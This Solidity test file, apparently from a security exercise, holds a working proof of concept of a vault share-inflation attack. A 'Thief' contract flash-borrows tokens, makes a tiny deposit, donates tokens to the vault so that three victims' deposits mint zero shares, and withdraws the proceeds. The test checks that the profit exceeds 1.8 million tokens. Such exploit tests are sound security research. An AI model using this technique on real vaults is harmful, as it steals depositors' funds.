// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Antechamber} from "../donation-inflation/src/Antechamber.sol";
import {SeasonVault} from "../donation-inflation/src/SeasonVault.sol";
import {Token} from "../../shared/Erc20.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
}

contract Thief is IFlashBorrower {
    DonationInflationTest private immutable t = DonationInflationTest(msg.sender);
    uint256 private gift;

    function run(uint256 gift_) external {
        gift = gift_;
        t.lender().flashLoan(this, address(t.cobalt()), gift + 1 - t.cobalt().balanceOf(address(this)), "");
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        (Token cobalt, SeasonVault season, Antechamber chamber) = (t.cobalt(), t.season(), t.chamber());
        cobalt.approve(address(season), type(uint256).max);
        season.enter(1, 1, address(this));
        cobalt.transfer(address(season), gift);
        chamber.leadIn(t.quinn());
        chamber.leadIn(t.pavel());
        chamber.leadIn(t.olga());
        season.exit(season.balanceOf(address(this)), address(this));
        cobalt.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

contract DonationInflationTest {
    event log_named_uint(string key, uint256 value);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address public constant olga = address(0x01a);
    address public constant pavel = address(0x9a);
    address public constant quinn = address(0x90);

    Token public cobalt;
    Antechamber public chamber;
    SeasonVault public season;
    FlashLender public lender;

    function setUp() public {
        cobalt = new Token("Cobalt", "CO");
        chamber = new Antechamber(cobalt);
        _wait(olga, 900_000 ether);
        _wait(pavel, 600_000 ether);
        _wait(quinn, 400_000 ether);
        season = new SeasonVault(cobalt);
        chamber.openDoors(season);
        lender = new FlashLender(9);
        cobalt.mint(address(lender), 5_000_000 ether);
    }

    function _wait(address who, uint256 amount) private {
        cobalt.mint(who, amount);
        vm.startPrank(who);
        cobalt.approve(address(chamber), type(uint256).max);
        chamber.join(amount);
        vm.stopPrank();
    }

    function test_attack_pays() public {
        Thief thief = new Thief();
        cobalt.mint(address(thief), 15_000 ether);
        thief.run(400_000 ether);
        uint256 profit = cobalt.balanceOf(address(thief)) - 15_000 ether;
        emit log_named_uint("profit in base units of cobalt", profit);
        require(profit > 1_800_000 ether, "no profit");
        require(season.balanceOf(olga) == 0, "olga has shares");
    }
}
